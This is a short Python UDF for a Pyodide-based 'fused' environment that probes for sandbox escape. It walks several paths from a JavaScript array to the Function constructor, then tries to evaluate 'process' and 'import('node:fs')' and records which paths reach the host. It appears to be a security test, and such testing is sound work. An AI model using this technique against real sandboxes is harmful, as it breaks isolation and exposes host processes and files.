import fused
from pyodide.ffi import to_js


@fused.udf
async def udf(canary: str, folder: str, port: int, pid: int):
    reached = []
    root = to_js([])
    starts = {
        "method": lambda: root.push,
        "bind": lambda: root.push.bind,
        "iterator": lambda: root.values,
        "promise": lambda: root.constructor.constructor.prototype.constructor,
        "getter": lambda: root.constructor.from_ if hasattr(root.constructor, "from_") else root.constructor.isArray,
    }
    for name, start in starts.items():
        for text in ("return typeof process", "return import('node:fs')", "return this.process"):
            try:
                function = start().constructor
                found = function(text)()
                if str(found) != "undefined":
                    reached.append(name)
                    break
            except Exception:
                pass
    return reached
